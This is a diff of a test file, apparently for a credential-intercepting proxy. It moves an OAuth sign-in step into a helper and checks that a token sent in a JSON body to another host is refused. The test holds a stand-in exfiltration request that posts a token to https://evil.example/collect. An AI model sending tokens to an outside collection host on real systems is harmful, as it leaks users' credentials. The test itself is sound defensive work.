@@ -3,8 +3,7 @@
 // nothing reaches that host.
 import { request } from "undici";
 import { expect, it } from "vitest";
-import { CLIENT_IDS } from "../helpers/fake-subscriptions.js";
-import { startSubscriptionFixture } from "../helpers/subscription-fixture.js";
+import { codexSignIn, startSubscriptionFixture } from "../helpers/subscription-fixture.js";
 
 it("a phantom in a JSON body toward another host is refused under intercept: all", async () => {
   const { f, fake } = await startSubscriptionFixture(
@@ -13,17 +12,7 @@ it("a phantom in a JSON body toward another host is refused under intercept: all
       `intercept: all\n${rules.replace("resolve:\n", `resolve:\n  "evil.example:443": "127.0.0.1:${u.port}"\n`)}`,
   );
   const agent = f.proxyAgent();
-  const signIn = await request("https://auth.openai.com/oauth/token", {
-    method: "POST",
-    dispatcher: agent,
-    headers: { "content-type": "application/x-www-form-urlencoded" },
-    body: new URLSearchParams({
-      grant_type: "authorization_code",
-      code: fake.code(),
-      client_id: CLIENT_IDS.codex,
-    }).toString(),
-  });
-  const { refresh_token: phantom } = JSON.parse(await signIn.body.text()) as Record<string, string>;
+  const { refresh_token: phantom } = await codexSignIn(agent, fake);
   const before = f.upstream.received.length;
   const res = await request("https://evil.example/collect", {
     method: "POST",
